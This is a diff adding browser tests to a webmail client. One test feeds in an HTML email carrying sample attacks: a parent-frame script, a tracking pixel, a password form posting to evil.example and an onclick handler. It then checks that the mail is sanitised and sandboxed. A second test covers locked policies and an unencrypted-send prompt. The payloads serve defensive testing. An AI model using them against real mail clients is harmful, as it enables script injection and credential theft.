@@ -163,3 +163,59 @@ test('phone-sized layout (375 px): usable without horizontal scrolling, menu rea
   assert.ok(width <= 375, `the message view fits (${width} px)`);
   await page.screenshot({ path: screenshotPath('phone-message'), fullPage: true });
 });
+
+test('HTML mail is sanitised and sandboxed: no script runs, no remote content is fetched', async () => {
+  const bob = demoUser('bob');
+  const html = [
+    'From: newsletter@example.com',
+    `To: ${bob.user.address}`,
+    'Subject: Newsletter',
+    'MIME-Version: 1.0',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    '<h1 id="headline">News</h1><script>parent.document.title="pwned"</script>',
+    '<img src="http://127.0.0.1:9/track.gif" alt="tracker"><form action="http://evil.example"><input name="pw"></form>',
+    '<p onclick="alert(1)">Read more</p>',
+    '',
+  ].join('\r\n');
+  await bob.user.mailbox.deliver('INBOX', Buffer.from(html));
+  const page = await signIn('bob');
+  const requests: string[] = [];
+  page.on('request', (request) => requests.push(request.url()));
+  await page.getByRole('link', { name: /Newsletter/ }).click();
+  const frame = page.frameLocator('iframe.message-frame');
+  await frame.locator('#headline').waitFor();
+  assert.equal(await page.title(), 'Cachet Mail', 'the script did not run');
+  assert.equal(await frame.locator('script').count(), 0);
+  assert.equal(await frame.locator('form, input').count(), 0);
+  assert.equal(await frame.locator('img[src]').count(), 0, 'the remote image lost its source');
+  assert.equal(await frame.locator('[onclick]').count(), 0);
+  assert.equal(await page.locator('iframe.message-frame').getAttribute('sandbox'), '');
+  assert.ok(!requests.some((url) => url.includes('track.gif') || url.includes('evil.example')), 'nothing remote was requested');
+  await page.locator('.status-bar[data-status="not-signed"]').waitFor();
+});
+
+test('locked policies are shown as locked, and the group rule asks before anything goes out in clear', async () => {
+  const { writeFileSync } = await import('node:fs');
+  writeFileSync(join(home, 'policy.yaml'), 'groupRule: ask\nencryptByDefault: true\n');
+  try {
+    const page = await signIn('alice');
+    await page.getByRole('link', { name: 'Settings' }).click();
+    const encryptByDefault = page.getByRole('switch', { name: 'Encrypt by default' });
+    assert.equal(await encryptByDefault.isDisabled(), true, 'locked by the policy');
+    await page.locator('.locked').first().waitFor();
+    await page.getByRole('link', { name: 'Policy' }).click();
+    await page.getByRole('cell', { name: 'policy (locked)' }).first().waitFor();
+
+    await compose(page, 'stranger@example.net', 'Hello stranger', 'No certificate for you.', false);
+    await page.getByRole('button', { name: 'Send' }).click();
+    const decision = page.getByRole('alertdialog');
+    await decision.getByText(/Send the message UNENCRYPTED to everyone\?/).waitFor();
+    assert.match((await decision.textContent()) ?? '', /stranger@example\.net/);
+    await page.screenshot({ path: screenshotPath('alice-group-rule-ask'), fullPage: true });
+    await decision.getByRole('button', { name: 'Send unencrypted to everyone' }).click();
+    await page.getByTestId('compose-feedback').getByText(/not sent yet|sent UNENCRYPTED/i).waitFor();
+  } finally {
+    rmSync(join(home, 'policy.yaml'), { force: true });
+  }
+});
